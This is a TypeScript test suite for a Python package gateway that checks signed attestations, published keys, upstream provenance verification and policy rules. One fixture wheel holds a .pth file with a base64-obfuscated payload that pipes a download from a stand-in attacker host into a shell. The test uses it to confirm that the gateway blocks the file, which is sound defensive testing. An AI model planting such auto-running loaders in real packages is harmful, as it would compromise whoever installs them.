/**
 * Proof over HTTP with a real gateway and a real upstream on loopback: signed decision
 * attestations of admitted files, the published keys, and upstream PEP 740 provenance fetched,
 * verified against the shipped Sigstore root and fed to policy (release-drift, required provenance).
 */
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { ProvenanceRepository } from "../../src/adapters/db/provenance-repository.js";
import {
  parseKeysDocument,
  verifyDecisionAttestation,
} from "../../src/services/proof/attestation-verifier.js";
import { GatewayAttestationSource } from "../../src/services/proof/attestation-source.js";
import { verifyFiles } from "../../src/services/proof/verify-run.js";
import type { Decision } from "../../src/policy/decision.js";
import { sharedDataDir } from "../helpers/shared-data.js";
import { startStaticIndexServer, type IndexServer } from "../helpers/upstream-server.js";
import { startTestGateway, type TestGateway } from "../helpers/test-gateway.js";
import { buildWheel, type BuiltArtifact } from "../helpers/wheel-builder.js";

const attestationsDir = join(sharedDataDir(), "attestations");
const manifest = JSON.parse(readFileSync(join(attestationsDir, "manifest.json"), "utf8")) as {
  files: Record<string, { sha256: string }>;
};
const SDIST = "pypi_attestations-0.0.19.tar.gz";
const SDIST_SHA = manifest.files[SDIST]!.sha256;
const SIGSTORE_SDIST = "sigstore-3.6.1.tar.gz";
const PROVENANCE_PATH = `/integrity/pypi-attestations/0.0.19/${SDIST}/provenance`;

describe("proof: attestations, keys and provenance through a running gateway", () => {
  let tree: string;
  let upstream: IndexServer;
  let gw: TestGateway;
  const wheels: Record<string, BuiltArtifact> = {};

  const page = (project: string, anchors: string[]) => {
    mkdirSync(join(tree, "simple", project), { recursive: true });
    writeFileSync(
      join(tree, "simple", project, "index.html"),
      `<!DOCTYPE html><html><body>\n${anchors.join("<br/>\n")}\n</body></html>\n`,
    );
  };
  const anchor = (w: BuiltArtifact) =>
    `<a href="../../files/${w.filename}#sha256=${w.sha256}">${w.filename}</a>`;

  before(async () => {
    tree = mkdtempSync(join(tmpdir(), "proof-upstream-"));
    mkdirSync(join(tree, "files"), { recursive: true });
    wheels.demo = await buildWheel({ name: "demo", version: "1.0" });
    wheels.pth = await buildWheel({
      name: "pthpkg",
      version: "1.0",
      files: {
        "pthpkg/__init__.py": "",
        "pthpkg_init.pth":
          "import os, subprocess, sys; exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL2V2aWwuZXhhbXBsZS94IHwgc2giKQ=='))\n",
      },
    });
    wheels.drift10 = await buildWheel({ name: "driftpkg", version: "1.0" });
    wheels.drift11 = await buildWheel({ name: "driftpkg", version: "1.1" });
    wheels.needs = await buildWheel({ name: "needs-prov", version: "1.0" });
    for (const w of Object.values(wheels)) writeFileSync(join(tree, "files", w.filename), w.bytes);
    page("demo", [anchor(wheels.demo)]);
    page("pthpkg", [anchor(wheels.pth)]);
    page("driftpkg", [anchor(wheels.drift10), anchor(wheels.drift11)]);
    page("needs-prov", [anchor(wheels.needs)]);
    // PEP 740 on a PEP 503 page: `data-provenance` names the provenance object. The second file's
    // provenance sits on another origin (refused), the third's is another file's (fails).
    page("pypi-attestations", [
      `<a href="../../files/${SDIST}#sha256=${SDIST_SHA}" data-provenance="../..${PROVENANCE_PATH}">${SDIST}</a>`,
      `<a href="../../files/pypi_attestations-0.0.18.tar.gz#sha256=${"e".repeat(64)}" data-provenance="http://127.0.0.2:1/integrity/x/provenance">pypi_attestations-0.0.18.tar.gz</a>`,
      `<a href="../../files/pypi_attestations-0.0.17.tar.gz#sha256=${"d".repeat(64)}" data-provenance="../../integrity/other/provenance">pypi_attestations-0.0.17.tar.gz</a>`,
    ]);
    mkdirSync(join(tree, "integrity", "pypi-attestations", "0.0.19", SDIST), { recursive: true });
    writeFileSync(
      join(tree, PROVENANCE_PATH.slice(1)),
      readFileSync(join(attestationsDir, `${SDIST}.provenance`)),
    );
    mkdirSync(join(tree, "integrity", "other"), { recursive: true });
    writeFileSync(
      join(tree, "integrity", "other", "provenance"),
      readFileSync(join(attestationsDir, `${SIGSTORE_SDIST}.provenance`)),
    );
    const policy = join(tree, "policy.yaml");
    writeFileSync(
      policy,
      "projects:\n  needs-prov:\n    rules:\n      provenance:\n        required: true\n",
    );
    upstream = await startStaticIndexServer({ root: tree });
    gw = await startTestGateway({ upstream: upstream.simpleUrl, policy });
  });

  after(async () => {
    await gw?.close();
    await upstream?.close();
    rmSync(tree, { recursive: true, force: true });
  });

  const get = (path: string) => fetch(gw.url + path);
  const keysDoc = async () => parseKeysDocument(await (await get("/.well-known/portcullis/keys")).json());
  const download = async (w: BuiltArtifact) => {
    // The gateway knows a file once it has listed its project's page.
    const project = w.filename.split("-")[0]!.replace(/_/g, "-");
    await (await get(`/simple/${project}/`)).arrayBuffer();
    const res = await get(`/files/${w.sha256}/${w.filename}`);
    await res.arrayBuffer();
    return res.status;
  };
  const decision = async (sha: string) => (await (await get(`/api/v1/decisions/${sha}`)).json()) as Decision;

  test("the keys document names the active key by the sha256 of its SPKI DER", async () => {
    const res = await get("/.well-known/portcullis/keys");
    assert.equal(res.status, 200);
    const body = (await res.json()) as {
      keys: { keyid: string; algorithm: string; status: string; pem: string }[];
    };
    assert.deepEqual(
      body.keys.map((k) => [k.keyid, k.algorithm, k.status]),
      [[gw.gateway.services.keys.keyid, "ed25519", "active"]],
    );
    assert.equal((await keysDoc()).size, 1);
  });

  test("an admitted file has a DSSE attestation that verifies with the published key", async () => {
    const demo = wheels.demo!;
    assert.equal(await download(demo), 200);
    const res = await get(`/attestations/${demo.sha256}`);
    assert.equal(res.status, 200);
    assert.match(res.headers.get("content-type") ?? "", /application\/json/);
    const envelope = (await res.json()) as { payloadType: string; signatures: { keyid: string }[] };
    assert.equal(envelope.payloadType, "application/vnd.in-toto+json");
    assert.equal(envelope.signatures[0]!.keyid, gw.gateway.services.keys.keyid);
    const result = verifyDecisionAttestation(envelope, await keysDoc(), demo);
    assert.ok(result.ok, result.ok ? "" : result.reason);
    assert.equal(result.statement.predicate.verifier.id, `${gw.url}/`);
    assert.equal(
      result.statement.predicate.policy.digest.sha256,
      (await decision(demo.sha256)).policyVersion,
    );
    assert.ok(result.statement.predicate.checks.some((c) => c.check === "artifact" && c.result === "pass"));
    // Linked from the project page, in both representations.
    const html = await (await get("/simple/demo/")).text();
    assert.match(html, new RegExp(`data-portcullis-attestation="../../attestations/${demo.sha256}"`));
    const json = (await (await get("/simple/demo/?format=json")).json()) as {
      files: Record<string, unknown>[];
    };
    assert.equal(json.files[0]!["_portcullis-attestation"], `../../attestations/${demo.sha256}`);
    // The CLI's verifier, online: the file verifies; the same bytes under another name do not.
    const source = new GatewayAttestationSource(gw.url, undefined);
    const keys = await source.keys();
    const [ok, renamed] = await verifyFiles(source, keys, [
      { filename: demo.filename, sha256: demo.sha256 },
      { filename: "demo-1.0-py2.py3-none-any.whl", sha256: demo.sha256 },
    ]);
    assert.equal(ok!.ok, true);
    assert.deepEqual([renamed!.ok, renamed!.detail.split(":")[0]], [false, "name mismatch"]);
  });

  test("a refused file has no attestation (410 with the reason); unknown files 404; bad digests 400", async () => {
    assert.equal(await download(wheels.pth!), 403);
    const refused = await get(`/attestations/${wheels.pth!.sha256}`);
    assert.equal(refused.status, 410);
    const body = (await refused.json()) as { error: { message: string } };
    assert.match(
      body.error.message,
      /pthpkg-1\.0-py3-none-any\.whl is (quarantined for review|blocked) by policy: artifact: .*attestation is withdrawn/,
    );
    assert.equal((await get(`/attestations/${"0".repeat(64)}`)).status, 404);
    assert.equal((await get("/attestations/not-a-digest")).status, 400);
  });

  test("upstream provenance is fetched from the page's data-provenance, verified and recorded", async () => {
    assert.equal((await get("/simple/pypi-attestations/")).status, 200);
    const res = await get(`/api/v1/provenance/${SDIST_SHA}`);
    assert.equal(res.status, 200);
    const record = (await res.json()) as Record<string, unknown>;
    assert.equal(record.status, "verified", String(record.detail));
    assert.equal(record.publisher, "github:trailofbits/pypi-attestations/release.yml");
    assert.deepEqual(record.publisherDetail, {
      environment: null,
      kind: "GitHub",
      repository: "trailofbits/pypi-attestations",
      workflow: "release.yml",
    });
    assert.equal(upstream.requests.get(PROVENANCE_PATH), 1);
    // Recorded: asking again does not fetch again.
    await (await get(`/api/v1/provenance/${SDIST_SHA}`)).arrayBuffer();
    assert.equal(upstream.requests.get(PROVENANCE_PATH), 1);
  });

  test("provenance on another origin is not fetched; another file's provenance fails verification", async () => {
    type Row = { status: string; detail: string };
    const foreign = (await (await get(`/api/v1/provenance/${"e".repeat(64)}`)).json()) as Row;
    assert.equal(foreign.status, "unavailable");
    assert.match(foreign.detail, /provenance origin http:\/\/127\.0\.0\.2:1 is not the upstream's/);
    const wrong = (await (await get(`/api/v1/provenance/${"d".repeat(64)}`)).json()) as Row;
    assert.equal(wrong.status, "invalid");
    assert.match(
      wrong.detail,
      /the statement is for sigstore-3\.6\.1\.tar\.gz, not pypi_attestations-0\.0\.17\.tar\.gz/,
    );
    assert.equal((await get(`/api/v1/provenance/${"f".repeat(64)}`)).status, 404);
  });

  test("release-drift flags a publisher change since the previous release", async () => {
    const repo = new ProvenanceRepository(gw.gateway.services.db.db);
    const seed = async (w: BuiltArtifact, version: string, publisher: string) =>
      repo.put({
        sha256: w.sha256,
        project: "driftpkg",
        version,
        filename: w.filename,
        status: "verified",
        publisher,
        publisher_json: null,
        detail: "seeded: verified earlier",
        provenance_json: null,
        checked_at: 0,
      });
    await seed(wheels.drift10!, "1.0", "github:driftpkg/driftpkg/release.yml");
    await seed(wheels.drift11!, "1.1", "github:someone-else/driftpkg/release.yml");
    assert.equal(await download(wheels.drift10!), 200);
    assert.equal(await download(wheels.drift11!), 200);
    const d = await decision(wheels.drift11!.sha256);
    const drift = d.reasons.find((r) => r.check === "release-drift");
    assert.equal(drift?.outcome, "fail");
    assert.equal(
      drift?.message,
      "1.1 differs from 1.0: published by github:someone-else/driftpkg/release.yml, while 1.0 was published by github:driftpkg/driftpkg/release.yml",
    );
    const provenance = d.reasons.find((r) => r.check === "provenance");
    assert.equal(provenance?.outcome, "pass");
  });

  test("a project whose policy requires provenance is refused without it", async () => {
    assert.equal(await download(wheels.needs!), 403);
    const d = await decision(wheels.needs!.sha256);
    assert.equal(d.outcome, "blocked");
    const reason = d.reasons.find((r) => r.check === "provenance");
    assert.deepEqual([reason?.outcome, reason?.action], ["fail", "block"]);
    assert.equal(reason?.message, "no provenance, and the policy requires it for this project");
  });
});
